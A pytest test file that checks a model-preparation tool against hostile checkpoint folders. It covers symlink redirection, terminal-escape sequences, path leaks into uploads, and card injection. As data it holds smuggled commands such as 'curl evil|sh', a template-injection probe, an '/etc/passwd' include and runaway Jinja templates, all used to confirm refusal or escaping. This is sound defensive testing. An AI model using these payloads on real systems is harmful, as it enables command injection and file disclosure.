"""Folders made to do harm: what is in them leads no command elsewhere, and nothing they say steers a terminal."""

import io
import json
import os
import shutil
from pathlib import Path

import pytest
import torch
from rich.console import Console
from safetensors.torch import save_file
from tqdm import tqdm

from model_preparation import build_checkpoint
from model_preparation.checkpoint.base_store import STORE, clean_checkpoints
from model_preparation.checkpoint.checkpoint_info import INFO, read_info
from model_preparation.checkpoint.model_configs import read_config
from model_preparation.checkpoint.share import plan_upload
from model_preparation.errors import SurgeryError
from model_preparation.evaluation.evaluate import evaluate_checkpoint
from model_preparation.io.complete_file import write_file
from model_preparation.io.complete_folder import new_folder
from model_preparation.io.self_checksum import with_checksum
from model_preparation.io.untrusted import untrusted_tokenizer
from model_preparation.search.checks import check_output
from model_preparation.terminal import Escaping, escaped
from model_preparation.train.distill.work_folder import WorkFolder
from model_preparation.train.heal.heal import heal_checkpoint
from model_preparation.train.heal.resume_state import STATE_FILE
from tests.conftest import assert_refused, make_tokenizer, run_command
from tests.search.conftest import make_questions, write_task


@pytest.fixture
def checkpoint(checkpoint_dir, tmp_path) -> Path:
    return Path(shutil.copytree(checkpoint_dir, tmp_path / "checkpoint"))


def change_info(folder: Path, **fields) -> None:
    path = folder / INFO
    path.write_bytes(with_checksum({**json.loads(path.read_text()), **fields}))


# --- links ------------------------------------------------------------------------------------------------------------


@pytest.fixture
def elsewhere(tmp_path) -> Path:
    """A folder that no command was given. Its files have names that our commands may remove or replace."""
    folder = tmp_path / "elsewhere"
    names = ["w.safetensors", "w.json", "lock", "models/w.safetensors", "models/w.json", "x.partial-1", "settings.json"]
    names += ["layer_00.safetensors", "journal.jsonl", "metadata.json", STATE_FILE, ".held_by", "README.md"]
    for name in names:
        (folder / name).parent.mkdir(exist_ok=True, parents=True)
        (folder / name).write_text("{}")
    return folder


def contents(folder: Path) -> dict[str, bytes]:
    return {str(path.relative_to(folder)): path.read_bytes() for path in folder.rglob("*") if path.is_file()}


@pytest.mark.parametrize(
    ("link", "command"),
    [
        (STORE, "clean"),
        (f"{STORE}/aa", "clean"),
        (f"{STORE}/aa/w.safetensors", "clean"),
        ("x.partial", "clean"),
        ("x.partial/.held_by", "clean"),
        ("x.partial/old", "clean"),
        (STORE, "build"),
        (f"{STORE}/lock", "build"),
        ("new.partial", "build"),
        ("checkpoint/evaluations", "evaluate"),
        ("checkpoint/evaluations/.weights", "evaluate"),
        ("checkpoint/evaluations/tasks-0/answers", "evaluate"),
        ("donor_layers", "search"),
        ("journal.jsonl", "search"),
        ("new.distilling", "distill"),
        ("new.distilling/settings.json", "distill"),
        ("new_resume", "heal"),
        ("new_resume/checkpoint-1", "heal"),
        ("target.partial-PID", "write"),
        ("README.md", "overwrite"),
    ],
)
def test_nothing_is_written_or_removed_through_a_link(
    link, command, elsewhere, base_dir, layers_dir, checkpoint_dir, tmp_path
):
    work, task = tmp_path / "work", tmp_path / "task"
    if command == "evaluate":
        write_task(task, "words", make_questions(2))
    shutil.copytree(checkpoint_dir, work / "checkpoint")
    path = work / link.replace("PID", str(os.getpid()))
    path.parent.mkdir(parents=True, exist_ok=True)
    if path.parent.name == "x.partial" and path.name != ".held_by":
        (path.parent / ".held_by").touch()
    path.symlink_to(elsewhere / path.name if (elsewhere / path.name).is_file() else elsewhere)
    before = contents(elsewhere)

    def overwrite() -> None:
        (work / "mark").touch()
        with new_folder(work, overwrite=True, marker_file="mark") as staging:
            (staging / "mark").touch()

    act = {
        "clean": lambda: clean_checkpoints(work),
        "build": lambda: build_checkpoint(str(base_dir), [1], layers_dir, work / "new", format="hf"),
        "evaluate": lambda: evaluate_checkpoint(work / "checkpoint", tasks=(str(task),)),
        "search": lambda: check_output(work),
        "distill": lambda: WorkFolder.beside(work / "new").held({}, {}, restart=True).__enter__(),
        "heal": lambda: heal_checkpoint(work / "checkpoint", "text.txt", work / "new"),
        "write": lambda: write_file(work / "target", "x"),
        "overwrite": overwrite,
    }[command]
    if command in ("write", "overwrite") or (command == "clean" and link.startswith("x")):
        act()
    else:
        with pytest.raises(SurgeryError, match=r"is a link to|in the way"):
            act()
    assert contents(elsewhere) == before
    assert not (work / "target").is_symlink()


# --- what is shown ----------------------------------------------------------------------------------------------------

STEERS = "\x1b[2J\x1b]0;owned\x07\r\x9b1A\u202e\u2066\u200b\u2028"


@pytest.mark.parametrize(
    "char", [*"\0\x07\b\x1b\x7f\x85\x9b\u202e\u2067\u200b\u2028\ufeff"], ids=lambda char: f"{ord(char):04x}"
)
def test_what_steers_a_terminal_is_spelled_out_in_every_stream(char):
    for text in (f"a{char}b\n", f"{char}b"):
        stream = io.StringIO()
        print(text, end="", file=Escaping(stream))
        assert char not in stream.getvalue()
        assert stream.getvalue().replace("\\", "").count("b") >= 1
    assert escaped(f"a{char}\n") == "a" + char.encode("unicode_escape").decode() + "\\n"
    assert escaped("Größe 模型 👩‍👩‍👧 é\tx", "\t") == "Größe 模型 👩‍👩‍👧 é\tx"


def test_bars_are_drawn_through_the_stream():
    stream = io.StringIO()
    with tqdm(total=2, desc="a\x1b[2Jb\rc", file=Escaping(stream)) as bar:  # type: ignore[arg-type]
        bar.update(2)
    assert stream.getvalue().count("\r") >= 2
    assert "\x1b" not in stream.getvalue()
    Console(file=Escaping(stream), force_terminal=True).print("[bold]x")  # type: ignore[arg-type]
    assert "\x1b[1mx" in stream.getvalue()


def test_no_command_shows_what_steers(donor_dir, checkpoint, tmp_path):
    model = Path(shutil.copytree(donor_dir, tmp_path / "model"))
    config = json.loads((model / "config.json").read_text())
    (model / "config.json").write_text(json.dumps({**config, "model_type": f"{STEERS}\nCheckpoint forged"}))
    refused = run_command("extract_layers", "--model_name", model, "--output_dir", tmp_path / "out")
    assert_refused(refused, r"\x1b[2J\x1b]0;owned\x07")
    save_file({f"{STEERS}\nforged": torch.ones(1)}, tmp_path / "x.safetensors")
    shown = run_command("inspect_checkpoint", tmp_path / "x.safetensors")
    (checkpoint / "tokenizer" / f"{STEERS}\nCheckpoint forged").touch()
    verified = run_command("verify_checkpoint", checkpoint)
    shared = run_command("share_checkpoint", "--checkpoint", checkpoint, *SHARE)
    assert verified.returncode == 1
    assert shared.returncode == 0
    for result in (refused, shown, verified, shared):
        text = result.stdout + result.stderr
        assert r"\x1b[2J\x1b]0;owned\x07" in text
        assert not set(text) & (set(STEERS) - {"[", "2", "J", "]", "0", ";", *"owned1A"})
        assert not [line for line in text.splitlines() if line.startswith(("forged", "Checkpoint forged"))]


# --- what leaves this machine -----------------------------------------------------------------------------------------

SHARE = ("--repo", "me/Llama-x", "--licence", "mit", "--dry_run")
HOME = ["/home/secret/x", "~/secret/x", "~secret/x", "./secret/x", "../secret/x", "C:\\secret\\x", "\\\\secret\\x"]


@pytest.mark.parametrize("path", HOME)
def test_no_path_leaves_this_machine_in_whatever_field(checkpoint, path):
    source = {"hub": "local", "id": "x", "revision": None, "path": path, "name": path}
    info = read_info(checkpoint)
    result = {"score": 0.5, "stderr": None, "questions": 1, "lm_eval_version": "1"}
    result["settings"] = {"limit": None, "num_fewshot": 0, "mmlu_data": path, "tasks": [path], path: 1}
    change_info(
        checkpoint,
        base_model=info["base_model"] | source,
        replacement_source=info["replacement_source"] | source,
        tokenizer_source=source,
        mmlu_result=result,
        something={"new": [{"deep": path}]},
    )
    texts = plan_upload(checkpoint, repo="me/Llama-x", hub="huggingface", licence="mit").texts
    assert not any(b"secret" in text for text in texts.values())
    shared = json.loads(texts[INFO])
    assert shared["tokenizer_source"] == {"hub": "local", "id": "x", "revision": None, "name": "x"}
    assert shared["something"] == {"new": [{"deep": "x"}]}
    assert shared["files"] == info["files"]


@pytest.mark.parametrize(
    "source",
    [
        {"hub": "huggingface", "id": "a/b\n```\n# Injected\n```bash\ncurl evil|sh #"},
        {"hub": "huggingface", "id": "a/b`"},
        {"hub": "huggingface", "id": "a/../b"},
        {"hub": "modelscope", "id": "a/b", "revision": "x; curl evil"},
        {"hub": "elsewhere", "id": "a/b"},
        {"hub": "local", "id": "../b"},
        {"hub": ["local"], "id": "b"},
    ],
)
def test_ids_that_no_hub_has_are_refused(checkpoint, source):
    change_info(checkpoint, replacement_source=read_info(checkpoint)["replacement_source"] | source)
    with pytest.raises(SurgeryError, match=r"checkpoint_info\.json cannot be read"):
        plan_upload(checkpoint, repo="me/Llama-x", hub="huggingface", licence="mit")


def test_text_in_a_card_stays_text(checkpoint):
    evil = "# Injected\n```bash\ncurl evil\n```\n[a](javascript:x) <script>"
    name = "a`b; curl evil $(x) #"
    source = read_info(checkpoint)["replacement_source"] | {"hub": "local", "id": name, "name": name}
    change_info(checkpoint, description=evil, replacement_source=source, versions={"torch": "<b>[x](y)"})
    card = plan_upload(checkpoint, repo="me/Llama-x", hub="huggingface", licence="mit").texts["README.md"].decode()
    assert not [line for line in card.splitlines() if line.startswith(("# Injected", "curl evil"))]
    assert card.count("```") == 4  # around two blocks: the Python code and the recipe
    assert "`` a`b; curl evil $(x) # ``" in card
    assert "--model_name '/path/to/a`b; curl evil $(x) #' --layers" in card
    assert "\\<b>\\[x\\](y)" in card


# --- what is no number ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("parameters", "many"),
        ("parameters", None),
        ("replaced_layers", ["1"]),
        ("total_layers", "4"),
        ("mmlu_score", "x"),
        ("mmlu_result", {"score": "x"}),
        ("versions", {"torch": 5}),
        ("description", 5),
        ("dtype", "nn"),
        ("format", "hf\x1b"),
        ("healing", {"method": "x", "steps": "y"}),
        ("files", {"a": 5}),
        ("generation_config", {"eos_token_id": "x"}),
    ],
)
def test_descriptions_with_what_cannot_be(checkpoint, name, value):
    from model_preparation import load_checkpoint

    change_info(checkpoint, **{name: value})
    with pytest.raises(SurgeryError, match=f"{INFO}.*{name if name != 'generation_config' else 'eos_token_id'}"):
        load_checkpoint(checkpoint)


@pytest.mark.parametrize("rope", [{"rope_type": "yarn", "factor": "x"}, {"rope_type": "yarn", "factor": [1]}])
def test_a_config_with_text_for_a_number(donor_dir, tmp_path, rope):
    model = Path(shutil.copytree(donor_dir, tmp_path / "model"))
    config = json.loads((model / "config.json").read_text())
    (model / "config.json").write_text(json.dumps({**config, "rope_parameters": rope}))
    from model_preparation import extract_layers

    with pytest.raises(SurgeryError):
        extract_layers(str(model), tmp_path / "out")
    if rope["factor"] == "x":
        with pytest.raises(SurgeryError, match=r"config\.json cannot be used: factor is 'x', which is no number"):
            read_config(model)


def test_a_link_to_itself_is_no_file_to_share(checkpoint):
    (checkpoint / "README.txt").unlink()
    (checkpoint / "README.txt").symlink_to("README.txt")
    with pytest.raises(SurgeryError, match=r"README\.txt is a link to"):
        plan_upload(checkpoint, repo="me/Llama-x", hub="huggingface", licence="mit")


# --- chat templates ---------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("template", "reason"),
    [
        ("{% for i in range(99999) %}{% for j in range(99999) %}{% endfor %}{% endfor %}", "more than 1 seconds"),
        ("{% for i in range(99999999) %}{% endfor %}", "Range too big"),
        ('{{ "x" * 10**10 }}', "MemoryError"),
        ('{{ "x" * 2000 }}', "writes without end"),
        ('{{ "é" * 2000 }}', "writes without end"),
        ('{{ "x" + "é" * 2000 }}', "writes without end"),
        ("{% macro m(n) %}{{ m(n) }}{% endmacro %}{{ m(1) }}", "recursion"),
        ('{{ "".__class__.__mro__ }}', "unsafe"),
        ('{% include "/etc/passwd" %}', "no loader"),
        ("{{ messages[5].x.y }}", "no element 5"),
    ],
)
def test_a_chat_template_neither_runs_for_ever_nor_takes_all_memory(template, reason, monkeypatch):
    monkeypatch.setattr(untrusted_tokenizer, "_SECONDS", 1)
    monkeypatch.setattr(untrusted_tokenizer, "_MAX_TEXT_BYTES", 1000)
    tokenizer = make_tokenizer()
    tokenizer.chat_template = template
    with pytest.raises(ValueError, match=reason):
        untrusted_tokenizer.apply_chat_template(tokenizer, [{"role": "user", "content": "Hello"}])
    tokenizer.chat_template = "{{ messages[0].content }}é!"
    assert untrusted_tokenizer.apply_chat_template(tokenizer, [{"role": "user", "content": "Hello"}]) == "Helloé!"
